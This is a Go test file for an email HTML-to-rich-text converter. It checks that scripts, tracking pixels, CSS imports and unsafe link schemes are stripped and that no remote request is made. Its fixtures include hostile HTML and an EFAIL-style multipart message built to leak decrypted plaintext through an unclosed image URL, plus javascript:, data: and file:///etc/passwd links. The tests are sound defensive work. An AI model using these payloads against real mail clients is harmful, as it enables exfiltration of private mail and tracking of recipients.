package mailfmt

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"sync/atomic"
	"testing"
)

// blockSummary is a compact, comparable view of a block.
type blockSummary struct {
	Kind    BlockKind
	Level   int
	Ordered bool
	Number  int
	Text    string
}

func summarize(blocks []Block) []blockSummary {
	out := make([]blockSummary, len(blocks))
	for i, b := range blocks {
		out[i] = blockSummary{b.Kind, b.Level, b.Ordered, b.Number, b.Text()}
	}
	return out
}

func links(blocks []Block) []string {
	var out []string
	for _, b := range blocks {
		for _, s := range b.Spans {
			if s.Link != "" {
				out = append(out, s.Link)
			}
		}
	}
	return out
}

func TestHTMLToRichStructure(t *testing.T) {
	src := `<!DOCTYPE html><html><head><title>Newsletter</title>
<style>.x { color: red }</style><script>alert(1)</script></head>
<body>
<span style="display: none !important">preheader text nobody sees</span>
<h1>Big   news</h1>
<h3>Smaller &amp; <em>italic</em></h3>
<p>First    paragraph
   spread over
lines, caf&eacute; &#x1F600;.<br>After a break.</p>
<div>A <strong>bold</strong> and <i>italic</i> and <code>x := 1</code> word.</div>
<ol start="3"><li>three<li>four<ul><li>nested bullet</li></ul></li></ol>
<ul><li><p>para one</p><p>para two</p></li></ul>
<blockquote>outer<blockquote>inner</blockquote></blockquote>
<pre>
  indented
    code</pre>
<hr>
<table><tr><th>Name</th><th>Qty</th></tr><tr><td>Apples</td><td>3</td></tr><tr><td></td><td>only</td></tr></table>
<p>Links: <a href="https://example.com/a?b=1&amp;c=2">https</a>, <a href="HTTP://Example.com">http</a>,
<a href="mailto:someone@example.com">mail</a>, <a href="javascript:alert(1)">js</a>,
<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>, <a href="file:///etc/passwd">file</a>,
<a href="/relative">relative</a>, <a href="vbscript:x">vb</a>, <a href="https://x.example/a
b">split</a>.</p>
<p><img src="cid:logo@x" alt="Company   logo"> <img src="https://t.example/p.gif" width="1" height="1"> <img src="https://example.com/photo.jpg"></p>
<p>zero&#8203;width&shy;chars</p>
</body></html>`
	blocks, blocked := HTMLToRich(src)
	want := []blockSummary{
		{Heading, 1, false, 0, "Big news"},
		{Heading, 3, false, 0, "Smaller & italic"},
		{Paragraph, 0, false, 0, "First paragraph spread over lines, café 😀.\nAfter a break."},
		{Paragraph, 0, false, 0, "A bold and italic and x := 1 word."},
		{ListItem, 1, true, 3, "three"},
		{ListItem, 1, true, 4, "four"},
		{ListItem, 2, false, 0, "nested bullet"},
		{ListItem, 1, false, 0, "para one\npara two"},
		{Quote, 1, false, 0, "outer"},
		{Quote, 2, false, 0, "inner"},
		{Preformatted, 0, false, 0, "  indented\n    code"},
		{Rule, 0, false, 0, ""},
		{Table, 0, false, 0, "Name | Qty\nApples | 3\nonly"},
		{Paragraph, 0, false, 0, "Links: https, http, mail, js, data, file, relative, vb, split."},
		{Paragraph, 0, false, 0, "[image: Company logo] [image]"},
		{Paragraph, 0, false, 0, "zerowidthchars"},
	}
	got := summarize(blocks)
	if !reflect.DeepEqual(got, want) {
		for i := range max(len(got), len(want)) {
			var g, w blockSummary
			if i < len(got) {
				g = got[i]
			}
			if i < len(want) {
				w = want[i]
			}
			if g != w {
				t.Errorf("block %d:\n got %+v\nwant %+v", i, g, w)
			}
		}
	}
	wantLinks := []string{"https://example.com/a?b=1&c=2", "http://Example.com", "mailto:someone@example.com"}
	if l := links(blocks); !reflect.DeepEqual(l, wantLinks) {
		t.Errorf("links = %q, want %q", l, wantLinks)
	}
	if blocked != 2 {
		t.Errorf("blocked = %d, want 2 (the tracking pixel and the photo)", blocked)
	}
	// Styles on the paragraph with bold/italic/code.
	var styles []string
	for _, s := range blocks[3].Spans {
		styles = append(styles, fmt.Sprintf("%s:%v%v%v", strings.TrimSpace(s.Text), s.Bold, s.Italic, s.Code))
	}
	wantStyles := []string{"A:falsefalsefalse", "bold:truefalsefalse", "and:falsefalsefalse", "italic:falsetruefalse",
		"and:falsefalsefalse", "x := 1:falsefalsetrue", "word.:falsefalsefalse"}
	if !reflect.DeepEqual(styles, wantStyles) {
		t.Errorf("styles = %q", styles)
	}
	// The space before a link stays outside it.
	for _, s := range blocks[13].Spans {
		if s.Link != "" && strings.TrimSpace(s.Text) != s.Text {
			t.Errorf("link span with edge space: %q", s.Text)
		}
	}
}

// hostileHTML puts base in every place a browser would fetch from, and ends with an EFAIL-style
// attribute left open.
func hostileHTML(base string) string {
	return strings.ReplaceAll(`<html><head>
<meta http-equiv="refresh" content="0; url=BASE/refresh">
<link rel="stylesheet" href="BASE/style.css">
<link rel="prefetch" href="BASE/prefetch">
<link rel="dns-prefetch" href="BASE/dns">
<link rel="preload" as="image" href="BASE/preload.png" imagesrcset="BASE/p1.png 1x">
<base href="BASE/base/">
<style>
@import url(BASE/import.css);
@import "BASE/import2.css";
@font-face { font-family: X; src: url('BASE/font.woff') format('woff'); }
body { background: url(BASE/bg.png); }
</style>
<script src="BASE/script.js"></script>
<script>fetch("BASE/fetch")</script>
</head>
<body background="BASE/body-bg.png">
<p style="background-image: url(&quot;BASE/inline-bg.png&quot;)">Hello</p>
<img src="BASE/img.png" alt="pixel">
<img srcset="BASE/small.png 1x, BASE/big.png 2x" alt="set">
<picture><source srcset="BASE/pic.webp"><img src="BASE/pic.png" alt="pic"></picture>
<iframe src="BASE/frame.html"></iframe>
<object data="BASE/object.swf"><embed src="BASE/embed.swf"></object>
<video poster="BASE/poster.png" src="BASE/video.mp4"></video>
<audio src="BASE/audio.mp3"></audio>
<svg><image href="BASE/svg-image.png"/><use xlink:href="BASE/sprite.svg#x"/></svg>
<table background="BASE/table-bg.png"><tr><td background="BASE/td-bg.png">cell</td></tr></table>
<form action="BASE/form"><input type="image" src="BASE/input.png"></form>
<a href="javascript:fetch('BASE/js')">js link</a>
<a href="https://example.org/ok" ping="BASE/ping">fine link</a>
<a href="data:text/html,<script>fetch('BASE/data')</script>">data link</a>
<div style="display:none"><img src="BASE/hidden.png"></div>
<img src="BASE/efail/?`, "BASE", base)
}

func TestHTMLToRichHostile(t *testing.T) {
	const base = "http://127.0.0.2:9"
	blocks, blocked := HTMLToRich(hostileHTML(base))
	if l := links(blocks); !reflect.DeepEqual(l, []string{"https://example.org/ok"}) {
		t.Errorf("links = %q, want only the https anchor", l)
	}
	// Every slot above holds one remote reference except the anchors' targets and the form action.
	if blocked < 25 {
		t.Errorf("blocked = %d, want at least 25", blocked)
	}
	for _, b := range blocks {
		if strings.Contains(b.Text(), "127.0.0.2") || strings.Contains(b.Text(), "fetch") {
			t.Errorf("remote reference leaked into text: %q", b.Text())
		}
	}
	text := RichToText(blocks)
	for _, want := range []string{"Hello", "[image: pixel]", "[image: set]", "[image: pic]", "cell", "js link", "fine link <https://example.org/ok>"} {
		if !strings.Contains(text, want) {
			t.Errorf("text lacks %q:\n%s", want, text)
		}
	}
}

// TestNoRemoteFetch is SECURITY.md rule 7: a loopback HTTP server stands in every remote slot of
// a hostile message, including an EFAIL split across MIME parts, and must see no request.
func TestNoRemoteFetch(t *testing.T) {
	var hits atomic.Int64
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
	}))
	if ln, err := net.Listen("tcp", "127.0.0.2:0"); err == nil {
		srv.Listener.Close()
		srv.Listener = ln
	}
	srv.Start()
	defer srv.Close()
	base := srv.URL

	raw := crlf(`From: attacker@example.com
To: victim@example.org
Subject: hostile
Message-ID: <hostile@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="EVIL"

--EVIL
Content-Type: text/html

<img src="`+base+`/efail/?
--EVIL
Content-Type: text/plain

secret plaintext that must not reach the attacker
--EVIL
Content-Type: text/html

">
--EVIL
Content-Type: multipart/alternative; boundary="ALT"

--ALT
Content-Type: text/plain

plain version
--ALT
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

`) + strings.ReplaceAll(hostileHTML(base), "=", "=3D") + crlf(`
--ALT--
--EVIL
Content-Type: image/svg+xml; name="x.svg"
Content-Disposition: inline; filename="x.svg"

<svg xmlns="http://www.w3.org/2000/svg"><image href="`+base+`/svgfile.png"/></svg>
--EVIL
Content-Type: message/external-body; access-type=URL; URL="`+base+`/external"

--EVIL--
`)
	m, err := Parse(strings.NewReader(raw), DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range m.Attachments {
		if _, _, err := OpenPart(strings.NewReader(raw), a.Path, DefaultLimits); err != nil {
			t.Errorf("OpenPart(%s): %v", a.Path, err)
		}
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("parsing made %d requests to the loopback server", n)
	}
	if m.RemoteContentBlocked == 0 || !m.HasHTML {
		t.Errorf("RemoteContentBlocked=%d HasHTML=%v", m.RemoteContentBlocked, m.HasHTML)
	}
	for _, l := range links(m.Rich) {
		if strings.Contains(l, strings.TrimPrefix(base, "http://")) {
			t.Errorf("link to the server survived: %q", l)
		}
	}
	if !strings.Contains(m.Text, "secret plaintext") {
		t.Errorf("the plaintext part should still be shown: %q", m.Text)
	}

	// The counter itself works: one deliberate request is seen.
	resp, err := srv.Client().Get(base + "/control")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if n := hits.Load(); n != 1 {
		t.Fatalf("control request counted %d times", n)
	}
}

func TestSanitizeLink(t *testing.T) {
	for in, want := range map[string]string{
		"https://example.com/x":      "https://example.com/x",
		"  http://example.com  ":     "http://example.com",
		"MAILTO:a@example.com":       "mailto:a@example.com",
		"javascript:alert(1)":        "",
		"JaVaScRiPt:alert(1)":        "",
		"java\tscript:alert(1)":      "",
		"data:text/html,x":           "",
		"ftp://example.com/f":        "",
		"//example.com/x":            "",
		"https://":                   "",
		"mailto:":                    "",
		"https://a.example/\nsecret": "",
		"https://a.example/ secret":  "",
		"https://a.example/\u2028x":  "",
		"http://[::1":                "",
		"https://example.com/" + strings.Repeat("a", maxLinkLen): "",
	} {
		if got := sanitizeLink(in); got != want {
			t.Errorf("sanitizeLink(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSSRemoteRefs(t *testing.T) {
	for css, want := range map[string]int{
		"":                                          0,
		"a{color:red}":                              0,
		"a{background:url(http://x/y)}":             1,
		"a{background:URL( 'https://x/y' )}":        1,
		"a{background:url(data:image/png;x)}":       0,
		"a{background:url(cid:logo)}":               0,
		`@import "x.css"; @import url(y.css);`:      2,
		"a{background-image:image-set('a.png' 1x)}": 1,
	} {
		if got := cssRemoteRefs(css); got != want {
			t.Errorf("cssRemoteRefs(%q) = %d, want %d", css, got, want)
		}
	}
}
